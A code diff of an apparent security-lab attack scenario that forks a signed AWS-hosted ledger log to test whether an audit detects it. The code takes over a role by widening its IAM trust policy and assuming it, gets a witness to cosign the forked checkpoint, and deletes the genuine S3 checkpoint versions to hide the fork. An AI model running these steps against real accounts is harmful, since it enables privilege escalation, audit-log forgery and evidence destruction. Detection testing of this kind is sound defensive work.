@@ -7,55 +7,20 @@
 // administrator of the account here: graded on detection only. Detected when the audit reports a fork —
 // two checkpoints of the same origin, both signed by the log key, not consistent with each other.
 import { S3Client } from '@aws-sdk/client-s3';
-import { IAMClient, GetRoleCommand, UpdateAssumeRolePolicyCommand } from '@aws-sdk/client-iam';
-import { STSClient, AssumeRoleCommand } from '@aws-sdk/client-sts';
 import { KMSClient } from '@aws-sdk/client-kms';
-import type { AttackStep, Scenario } from '../src/engine/types.ts';
+import type { Scenario } from '../src/engine/types.ts';
 import { kmsSigner } from '../src/controls/ledger/signers.ts';
-import type { AwsCredentials } from '../src/cloud/labcloud.ts';
 import { attempt } from './lib/attack.ts';
 import {
-  attackerClient, blame, buildLog, deleteVersions, judge, listVersions, notRun, objectKey, plain, prepareAttack, publish, revertCommon, save, scapegoat,
+  askWitness, attackerPut, blame, buildLog, deleteVersions, judge, ledgerRoleSession, listVersions, notRun, objectKey, plain, prepareAttack, publish,
+  restoreTrustPolicy, revertCommon, save, scapegoat,
   type Prepared,
 } from './advanced-ledger-shared.ts';
 
-interface State extends Prepared { forked?: boolean; trustPolicy?: string }
+interface State extends Prepared { forked?: boolean }
 
-/**
- * A session of the ledger role for ops-admin: their ARN added to the role's trust policy (kept in
- * `st.trustPolicy` for revert), then AssumeRole.
- */
-export async function ledgerRoleSession(session: import('../src/engine/session.ts').LabSession, st: State): Promise<{ steps: AttackStep[]; creds?: AwsCredentials }> {
-  const t = st.target;
-  const iam = attackerClient(session, t, IAMClient);
-  const role = t.env.names.ledgerRole;
-  const steps: AttackStep[] = [];
-  const got = await iam.send(new GetRoleCommand({ RoleName: role })).catch(() => undefined);
-  const doc = got?.Role?.AssumeRolePolicyDocument;
-  if (!doc) {
-    steps.push(await attempt(session, `GetRole ${role}`, () => iam.send(new GetRoleCommand({ RoleName: role }))));
-    return { steps };
-  }
-  st.trustPolicy = decodeURIComponent(doc);
-  const policy = JSON.parse(st.trustPolicy) as { Version?: string; Statement: unknown[] | unknown };
-  const statements = Array.isArray(policy.Statement) ? policy.Statement : [policy.Statement];
-  const widened = { Version: policy.Version ?? '2012-10-17', Statement: [...statements, { Effect: 'Allow', Principal: { AWS: t.env.opsAdmin.arn }, Action: 'sts:AssumeRole' }] };
-  const upd = await attempt(session, `UpdateAssumeRolePolicy ${role}: ops-admin may assume it`, () => iam.send(new UpdateAssumeRolePolicyCommand({ RoleName: role, PolicyDocument: JSON.stringify(widened) })));
-  steps.push(upd);
-  if (!upd.allowed) return { steps };
-  const sts = attackerClient(session, t, STSClient);
-  let creds: AwsCredentials | undefined;
-  steps.push(await attempt(session, `AssumeRole ${role} as ops-admin`, async () => {
-    const r = await sts.send(new AssumeRoleCommand({ RoleArn: `arn:aws:iam::${t.env.accountId}:role/${role}`, RoleSessionName: 'ledger-feed' }));
-    creds = { accessKeyId: r.Credentials!.AccessKeyId!, secretAccessKey: r.Credentials!.SecretAccessKey!, sessionToken: r.Credentials!.SessionToken! };
-  }));
-  return { steps, ...(creds ? { creds } : {}) };
-}
-
-export async function restoreTrustPolicy(session: import('../src/engine/session.ts').LabSession, st: State): Promise<void> {
-  if (!st.trustPolicy) return;
-  await session.client(IAMClient).send(new UpdateAssumeRolePolicyCommand({ RoleName: st.target.env.names.ledgerRole, PolicyDocument: st.trustPolicy })).catch(() => undefined);
-}
+// The takeover of the ledger role lives with the other shared helpers (every tampering attack escalates to it).
+export { ledgerRoleSession, restoreTrustPolicy } from './advanced-ledger-shared.ts';
 
 /** The genuine entries with every entry of the attacker's events blamed on `who`. */
 export function forgedEntries(st: Prepared, who: string): Buffer[] {
@@ -93,6 +58,14 @@ export const ledgerForkScenario: Scenario = {
     if (!built) return steps;
     steps.push(...await publish(session, st, built.files, 'the forked log'));
     st.forked = true;
+    // The witness, asked as the feed asks it: a fork of the same size with no proof. A witness that
+    // cosigns it vouches for the fork; the cosigned note then replaces the forged checkpoint.
+    const w = await askWitness(session, st, st.logged.size, [], built.note, `the forked checkpoint of ${st.logged.size} entries`);
+    steps.push(...w.steps);
+    if (w.cosigned) {
+      st.witnessCosigned = `the forked checkpoint of ${st.logged.size} entries`;
+      steps.push(...await attackerPut(session, st, t.ledger.bucket, ckKey, Buffer.from(w.cosigned), 'PutObject checkpoint: the fork with the witness\'s cosignature'));
+    }
     // The genuine checkpoints in the bucket's versions would give the fork away: delete them.
     const versions = (await listVersions(session.client(S3Client), t.ledger.bucket, ckKey)).get(ckKey) ?? [];
     const genuine = versions.filter((v) => !v.deleteMarker && !v.isLatest).map((v) => v.versionId);
